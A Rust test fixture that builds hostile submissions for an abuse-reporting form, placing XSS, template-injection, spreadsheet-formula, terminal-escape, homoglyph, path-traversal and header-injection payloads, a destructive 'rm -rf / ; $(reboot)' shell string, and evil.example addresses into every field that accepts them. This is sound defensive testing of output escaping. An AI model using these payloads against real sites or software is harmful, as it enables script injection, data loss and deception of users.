//! Reports with hostile content: every payload in every field that accepts it.

use getrandom::{SysRng, rand_core::UnwrapErr};
use serde_json::{Value, json};
use shared::report::{Report, ReportId, UntrustedReport};

/// A word that is in no page itself: where it appears, the payload was shown.
pub const MARK: &str = "hostile";

/// Texts that could harm a page, a table, a terminal or a reader.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</textarea></code></p><script src=//evil.example></script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<a href=javascript:alert(1)>click</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>ok</button>",
    "<!-- --!> ]]> <![CDATA[ &amp; &#60;script&#62;",
    "{{ 7*7 }} ${7*7} {% raw %} <%= 7*7 %>",
    "=HYPERLINK(\"http://evil.example\";\"ok\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\u{1b}[31mred\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}]0;title\u{7}\u{9b}2J\u{90}payload\u{9c}",
    "a\u{0}b\u{8}\u{8}\u{7f}",
    "\u{202e}txt.exe\u{202c} \u{2066}isolate\u{2069}",
    "zero\u{200b}width\u{200d}join\u{feff}\u{2060}",
    "\u{e0041}\u{e0042} tags, soft\u{ad}hyphen",
    "\";\"other cell\";\"http://evil.example",
    "quote\"\"quote,comma;semicolon\ttab",
    "../../../../etc/passwd %00 %0d%0aSet-Cookie:%20a=b",
    "| rm -rf / ; $(reboot) `reboot` && true",
    "- item: [1, 2] # yaml\u{85}next: line",
    "https://evil.example/ mailto:me@evil.example www.evil.example",
    "аррӏе.com раураl",
];

/// Hostile addresses that the form accepts.
const ADDRESSES: &[&str] = &[
    "https://evil.example/hostile\"><script>alert(1)</script>",
    "https://evil.example/hostile'onclick='alert(1)",
    "https://evil.example/hostile;=cmd|calc;\"x\"",
    "https://аррӏе.com/hostile",
    "https://xn--80ak6aa92e.com/hostile",
    "https://user:password@evil.example/hostile",
    "https://evil.example/\u{202e}hostile\u{2066}",
    "https://evil.example/hostile\u{200b}\u{feff}",
    "HTTPS://EVIL.EXAMPLE:443/hostile?u=https://evil.example/#javascript:alert(1)",
    "https://[2001:db8::1]/hostile",
    "https://127.0.0.1:7702/hostile",
    "http://evil.example\\@good.example/hostile",
    "https://evil.example/hostile?a=%0d%0aX:%20y&b=%00",
    "https://-.example/hostile",
];

/// All hostile texts.
pub fn texts() -> impl Iterator<Item = String> {
    let texts = PAYLOADS.iter().map(|payload| format!("{payload} {MARK}"));
    let many_lines = PAYLOADS.join("\r\n") + "\r\n" + MARK;
    let long = format!("{MARK} {}", "<b>=1+1\u{202e}".repeat(140));
    texts.chain([many_lines, long])
}

/// All payloads and addresses, in every field that accepts them.
pub fn all() -> Vec<Report> {
    let mut reports: Vec<Report> = texts().flat_map(|text| places(&text)).collect();
    let addresses = ADDRESSES.iter().enumerate();
    let addresses = addresses.flat_map(|(number, address)| address_places(number, address));
    reports.extend(addresses);
    reports
}

/// One report for each field that can contain a text.
fn places(text: &str) -> Vec<Report> {
    let all = [
        json!({ "type": "other", "text": text }),
        json!({ "type": "social", "platform": text, "handle": "x" }),
        json!({ "type": "social", "platform": "x", "handle": text }),
        json!({ "type": "chat", "app": text, "handle": text }),
        json!({ "type": "game", "name": text, "handle": text }),
        json!({ "type": "newsgroup", "group": text, "server": text, "sender": text,
                "subject": text }),
        json!({ "type": "file_sharing", "file_name": text, "search_terms": text,
                "magnet": text, "client": text }),
        json!({ "type": "email", "sender": "a@evil.example", "subject": text }),
    ];
    let described = report(&json!({ "type": "other", "text": "x" }), text);
    let located = all.iter().filter_map(|location| report(location, "x"));
    located.chain(described).collect()
}

/// One report for each field that can contain an address. The last names the item of the first.
fn address_places(number: usize, address: &str) -> Vec<Report> {
    let own = format!("https://x{number}.example");
    let elsewhere = address.replacen("://", &format!("://social{number}."), 1);
    let all = [
        json!({ "type": "web", "url": address }),
        json!({ "type": "web", "url": own, "referrer": address }),
        json!({ "type": "social", "platform": "x", "url": elsewhere }),
        json!({ "type": "social", "platform": "x", "url": address }),
    ];
    all.iter()
        .filter_map(|location| report(location, "x"))
        .collect()
}

/// A report, if the form could send it.
fn report(location: &Value, description: &str) -> Option<Report> {
    let report = json!({
        "id": ReportId::random(&mut UnwrapErr(SysRng)),
        "category": "csam",
        "locations": [location],
        "description": description,
        "site_credentials": { "user": "secret user", "password": "secret password" },
        "contact": "secret@contact.example",
        "feedback": true,
        "language": "en",
        "partner": "school",
    });
    let untrusted: UntrustedReport = serde_json::from_value(report).ok()?;
    Report::try_from(untrusted).ok()
}
